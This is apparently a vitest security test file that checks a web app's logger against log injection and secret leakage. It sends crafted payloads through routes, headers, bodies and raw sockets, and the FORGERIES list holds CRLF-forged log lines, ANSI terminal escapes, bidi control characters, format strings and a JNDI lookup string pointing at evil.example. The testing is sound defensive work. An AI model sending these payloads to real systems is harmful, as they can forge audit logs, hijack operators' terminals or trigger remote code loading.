import { afterAll, beforeAll, expect, test } from 'vitest';
import { createLogger } from '../../src/server/platform/logger.ts';
import { recordAttack } from '../support/attack-table.ts';
import { startTestApp } from '../support/test-app.ts';
import type { TestApp } from '../support/test-app.ts';
import { waitFor } from '../support/wait-for.ts';
import { describedRoutes } from './api/described-routes.ts';
import type { Route } from './api/described-routes.ts';
import { say } from './api/raw-socket.ts';
import { addressOf, bodyOf, caseOf } from './api/route-cases.ts';
import { send } from './api/send.ts';
import { callerToEnd, createWorld, PASSWORD, STATEFUL } from './api/world.ts';
import type { World } from './api/world.ts';

const GROUP = 'log injection';
const MARK = 'forged-line-51c7';

/** What would end a line of a log, begin another one, or move the cursor of who reads it. */
const FORGERIES = [
  `\r\n{"level":30,"msg":"${MARK}"}\r\n`,
  `\n2026-01-01 INFO ${MARK}`,
  `"},{"level":60,"msg":"${MARK}"},{"x":"`,
  `\u001b[2J\u001b[31m${MARK}`,
  `\u001b]0;${MARK}\u0007`,
  `\u0000${MARK}\u0008\u0008`,
  `\u2028${MARK}\u2029`,
  `\u202e${MARK}`,
  `%0d%0a${MARK}`,
  `\${jndi:ldap://evil.example/${MARK}}`,
  `%s%n%d${MARK}`,
];

/** One level of a log line, all of them below what means that something of ours failed. */
const FAULT = 50;

let log = '';
let app: TestApp;
let world: World;
let routes: Route[];

beforeAll(async () => {
  const logger = createLogger('debug', { write: (line: string) => void (log += line) });
  app = await startTestApp({ ...STATEFUL, logger });
  world = await createWorld(app.url);
  routes = await describedRoutes(app.url, world.api.token);
});

afterAll(() => app.close());

const inHeader = (text: string) => text.replace(/[^\t\u0020-\u007e]/g, '~');

async function attack(route: Route, forgery: string): Promise<void> {
  const caller = await callerToEnd(app.url, world, caseOf(route).ends === 'account' ? undefined : caseOf(route).ends);
  const { of } = caseOf(route);
  const encoded = encodeURIComponent(forgery);
  const path = `${addressOf(route, of ? world.ids[of] : encoded)}?search=${encoded}&${encoded}=1`;
  const headers = {
    authorization: `Bearer ${caller.api.token}`,
    'user-agent': inHeader(forgery),
    'x-request-id': inHeader(forgery),
    'x-forwarded-for': inHeader(forgery),
    referer: inHeader(forgery),
    cookie: `a=${inHeader(forgery)}`,
    'idempotency-key': inHeader(forgery),
    'if-match': `"${inHeader(forgery)}"`,
    'content-type': 'application/json',
  };
  const body = JSON.stringify({ [forgery]: forgery, name: forgery, email: forgery, password: forgery, token: forgery });
  await send(app.url, { method: route.method, path, headers, ...(route.method === 'GET' ? {} : { body }) });
  await send(app.url, {
    method: route.method,
    path: `/api/${encoded}`,
    headers: { ...headers, authorization: encoded },
  });
}

test('whatever is sent, each line of the log is one that the product wrote', async () => {
  let tries = 0;
  for (const [index, route] of routes.entries()) {
    for (const forgery of [FORGERIES[index % FORGERIES.length], FORGERIES[(index * 7 + 3) % FORGERIES.length]]) {
      await attack(route, forgery ?? '');
      tries += 2;
    }
  }
  for (const forgery of FORGERIES) {
    await say(app.url, Buffer.from(`GET /${forgery} HTTP/1.1\r\nHost: ${forgery}\r\nX: ${forgery}\r\n\r\n`));
    tries += 1;
  }
  const answered = () => log.split('\n').filter((line) => line.includes('"answered"')).length;
  await waitFor('the last line of the log', () => answered() >= routes.length * 4);
  const lines = log.split('\n').filter(Boolean);
  for (const line of lines) {
    const told = JSON.parse(line) as Record<string, unknown>;
    expect(Object.keys(told), line).toEqual(expect.arrayContaining(['level', 'time', 'msg']));
    expect(told['msg'], line).not.toBe(MARK);
    expect(line, line).not.toMatch(/[\u0000-\u001f\u007f\u2028\u2029\u202e]/);
    expect(Number(told['level']), `no fault of ours: ${line}`).toBeLessThan(FAULT);
  }
  expect(log).not.toContain(MARK);
  recordAttack({ group: GROUP, attack: 'lines forged in addresses, headers and bodies', tries, held: tries });
});

test('at its finest the log tells no token, cookie, password, address or text of a user', async () => {
  for (const route of routes.filter((one) => !caseOf(one).ends)) {
    const { of } = caseOf(route);
    const { headers: ofBody, ...body } = bodyOf(route, world);
    const headers = {
      ...ofBody,
      authorization: `Bearer ${world.api.token}`,
      cookie: 'manifold.session_token=a-cookie-of-theirs',
    };
    await send(app.url, { method: route.method, path: addressOf(route, of ? world.ids[of] : ''), headers, ...body });
  }
  const secrets = [world.api.token, PASSWORD, world.email, 'a-cookie-of-theirs', 'To keep', 'operations leads', 'mft_'];
  expect(log).toContain('/api/personas');
  expect(secrets.filter((secret) => log.includes(secret))).toEqual([]);
  recordAttack({
    group: GROUP,
    attack: 'secrets that would stand in the log',
    tries: routes.length,
    held: routes.length,
  });
});
